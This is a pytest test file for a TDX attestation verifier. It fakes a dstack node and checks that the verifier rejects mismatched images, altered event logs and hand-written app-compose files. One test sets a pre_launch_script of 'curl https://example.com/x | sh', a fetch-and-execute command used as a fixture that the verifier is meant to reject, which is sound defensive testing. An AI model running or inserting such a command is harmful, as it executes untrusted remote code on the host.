"""``require_logged_image`` on a dstack TDX node: the image is the one the attested
RTMR3 names, through the identity's event log and app-compose.

No TEE exists here, so the hardware is a stand-in behind the same interfaces a real
dstack node goes through: a producer (``EvidenceProducer``) that hands back its report
data as the "quote" together with an event log and app-compose, and the evidence
verifier (``verify_evidence``) accepting exactly that and reporting, as RTMR3, the
value the test computes from the event log with hashlib. Everything above it (the
identity document, the replay, the compose hash, the app-compose check, the logged
image lookup) is the real code. The replay itself is checked against a real dstack
node's event log in test_dstack.py.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import inferproof.attest._identity as identity_module
import inferproof.attest._software as software
from inferproof import LocalNode
from inferproof.attest import AttestationReport, Evidence
from inferproof.image import ImageEntry, app_compose
from inferproof.testing import mlp_model
from inferproof.verify import Policy
from inferproof.verify._imagecheck import LoggedImage, LoggedImages

X = {"x": np.full((1, 8), 0.5, np.float32)}
IMAGE = "sha256:" + "1a" * 32
OTHER = "sha256:" + "2b" * 32
TAG = (0x08000001).to_bytes(4, "little")


def _event(name: str, payload: bytes) -> dict[str, Any]:
    digest = hashlib.sha384(TAG + b":" + name.encode() + b":" + payload).hexdigest()
    return {"imr": 3, "event_type": 0x08000001, "event": name,
            "event_payload": payload.hex(), "digest": digest}  # fmt: skip


def _rtmr3(log: list[dict[str, Any]]) -> str:
    mr = bytes(48)
    for e in log:
        if e["imr"] == 3:
            mr = hashlib.sha384(mr + bytes.fromhex(e["digest"])).digest()
    return mr.hex()


class StandInDstack:
    """A dstack node: report data as the quote, an event log whose compose-hash is that
    of ``compose`` (or ``measured``, when the node lies about its app-compose)."""

    name = "stand-in-dstack"

    def __init__(self, compose: bytes, measured: bytes | None = None) -> None:
        self.compose, self.measured = compose, measured or compose
        self.log = [_event("system-preparing", b""), _event("app-id", b"\x01" * 20),
                    _event("compose-hash", hashlib.sha256(self.measured).digest()),
                    _event("system-ready", b"")]  # fmt: skip
        self.log.insert(0, {"imr": 0, "event_type": 1, "event": "", "event_payload": "",
                            "digest": "00" * 48})  # fmt: skip

    def produce(self, report_data: bytes) -> Evidence:
        rtmr3 = _rtmr3(self.log).encode()
        return Evidence("tdx", b"TDX" + rtmr3 + report_data, self.name,
                        event_log=json.dumps(self.log), app_compose=self.compose)  # fmt: skip


def _stand_in_verify(evidence: bytes, platform: str, *_: Any, at: datetime, **__: Any) -> Any:
    assert evidence.startswith(b"TDX") and platform == "tdx"
    return AttestationReport(platform="tdx", measurements={"RTMR3": evidence[3:99].decode()},
                             report_data=evidence[99:], debug=False, verified_at=at,
                             checks=())  # fmt: skip


@pytest.fixture(autouse=True)
def stand_in_hardware(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(identity_module, "verify_evidence", _stand_in_verify)
    yield
    monkeypatch.undo()
    software.software_measurement.cache_clear()  # no other test sees this one's image


def _images(*digests: str) -> LoggedImages:
    return LoggedImages(LoggedImage(ImageEntry(d, "publisher-1", "abc", "full", "sha256:00",
                                               57, {}), 7, "log.example/test")
                        for d in digests)  # fmt: skip


def _check(node: LocalNode, images: LoggedImages) -> Any:
    report = node.verifier(Policy(require_logged_image=True), images=images).check(
        node.infer("mlp", X).bundle)  # fmt: skip
    return next(c for c in report.checks if c.name == "environment")


def _node(root: Path, producer: Any, image: str | None, monkeypatch: pytest.MonkeyPatch) -> LocalNode:
    if image is None:
        monkeypatch.delenv("INFERPROOF_IMAGE", raising=False)
    else:
        monkeypatch.setenv("INFERPROOF_IMAGE", image)
    software.software_measurement.cache_clear()  # it reads INFERPROOF_IMAGE once
    node = LocalNode(root)
    node.attest(producer, now=datetime.now(UTC))
    node.push(mlp_model((8, 16, 2)), name="mlp")
    return node


def test_the_attested_image_passes_when_logged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    compose = app_compose(IMAGE, "ghcr.io/example/inferproof")
    node = _node(tmp_path, StandInDstack(compose), IMAGE, monkeypatch)
    check = _check(node, _images(IMAGE))
    assert check.passed, check.detail
    assert f"image {IMAGE} (logged at index 7 of log.example/test, SBOM with 57" in check.detail
    assert f"attested by TDX: RTMR3 replays to compose hash {hashlib.sha256(compose).hexdigest()}" \
        in check.detail  # fmt: skip
    # The identity document carries what the check rests on; the receipt's environment
    # records the compose hash beside the image it names.
    assert node.identity is not None and node.identity.app_compose == compose
    env = node.infer("mlp", X).bundle.receipt.environment
    assert env["compose_hash"] == hashlib.sha256(compose).hexdigest()
    assert env["measurement"]["image"] == IMAGE
    failed = _check(node, _images(OTHER))
    assert not failed.passed and "in no image entry this verifier trusts" in failed.detail


def test_a_node_that_names_another_image_than_it_attests_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    node = _node(tmp_path, StandInDstack(app_compose(IMAGE, "ghcr.io/e/i")), OTHER, monkeypatch)
    check = _check(node, _images(IMAGE, OTHER))
    assert not check.passed and f"the attested measurement names {IMAGE}" in check.detail


def test_an_app_compose_that_is_not_the_measured_one_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The node presents a logged image's app-compose, but RTMR3 measured another one.
    measured = app_compose(OTHER, "ghcr.io/e/i")
    producer = StandInDstack(app_compose(IMAGE, "ghcr.io/e/i"), measured=measured)
    check = _check(_node(tmp_path, producer, None, monkeypatch), _images(IMAGE))
    assert not check.passed and "not the one RTMR3 measured" in check.detail


def test_an_edited_event_log_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    producer = StandInDstack(app_compose(IMAGE, "ghcr.io/e/i"))
    node = _node(tmp_path, producer, None, monkeypatch)
    # After attesting, the log is swapped for one that skips an event: the quote's
    # RTMR3 still covers the original, so the replay no longer matches.
    assert node.identity is not None
    doc = dict(node.identity.doc)
    log = json.loads(doc["event_log"])
    doc["event_log"] = json.dumps([e for e in log if e["event"] != "system-ready"])
    node.issuer._identity = identity_module.NodeIdentity.from_json(doc)
    check = _check(node, _images(IMAGE))
    assert not check.passed and "does not replay to the attested RTMR3" in check.detail


def test_a_hand_written_app_compose_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    compose = json.loads(app_compose(IMAGE, "ghcr.io/e/i"))
    compose["pre_launch_script"] = "curl https://example.com/x | sh"
    raw = json.dumps(compose, sort_keys=True, separators=(",", ":")).encode()
    check = _check(_node(tmp_path, StandInDstack(raw), None, monkeypatch), _images(IMAGE))
    assert not check.passed and "not the one that runs only" in check.detail


def test_a_tee_without_an_event_log_fails_clearly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Plain(StandInDstack):
        def produce(self, report_data: bytes) -> Evidence:
            e = super().produce(report_data)
            return Evidence("tdx", e.data, self.name)

    node = _node(tmp_path, Plain(app_compose(IMAGE, "ghcr.io/e/i")), IMAGE, monkeypatch)
    check = _check(node, _images(IMAGE))
    assert not check.passed and "only a dstack TDX identity" in check.detail
